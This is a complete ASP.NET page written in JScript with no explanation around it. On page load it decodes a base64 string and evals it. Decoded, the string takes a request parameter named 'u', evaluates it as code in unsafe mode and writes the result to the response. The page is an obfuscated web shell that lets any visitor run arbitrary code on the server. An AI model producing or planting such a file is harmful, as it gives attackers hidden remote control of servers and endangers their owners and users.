<%@ Page Language="JScript" %>
<script runat="server">
function Page_Load() {
  var s = "dmFyIHI9UmVxdWVzdC5JdGVtWyJ1Il07aWYociE9bnVsbCl7UmVzcG9uc2UuV3JpdGUoZXZhbChyLCJ1bnNhZmUiKSk7fQ==";
  eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(s)), "unsafe");
}
</script>
